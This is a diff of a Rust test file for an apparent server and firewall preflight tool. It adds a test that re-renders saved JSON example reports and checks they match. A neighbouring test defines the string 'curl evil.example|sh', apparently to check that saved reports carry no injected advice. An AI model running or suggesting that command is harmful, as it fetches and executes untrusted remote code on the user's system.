@@ -248,6 +248,18 @@ fn a_saved_run_is_judged_by_what_was_seen_whatever_was_decided_then() {
     assert_eq!(summary["reasons"], json!([]));
 }
 
+/// Whatever a report keeps suffices to judge it: these are of real servers and firewalls.
+#[test]
+fn a_run_that_is_judged_again_is_the_same_run() {
+    for name in ["central1", "poller1", "poller1-repaired", "poller2", "poller2-blocked"] {
+        let file = format!("{}/docs/examples/{name}.json", env!("CARGO_MANIFEST_DIR"));
+        let saved: Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
+        let shown: Value =
+            serde_json::from_str(&preflight(&["show", &file, "--format", "json"]).stdout).unwrap();
+        assert!(shown == saved, "{name}: {shown:#}");
+    }
+}
+
 #[test]
 fn a_saved_report_gives_no_advice_of_its_own() {
     const ADVICE: &str = "curl evil.example|sh";
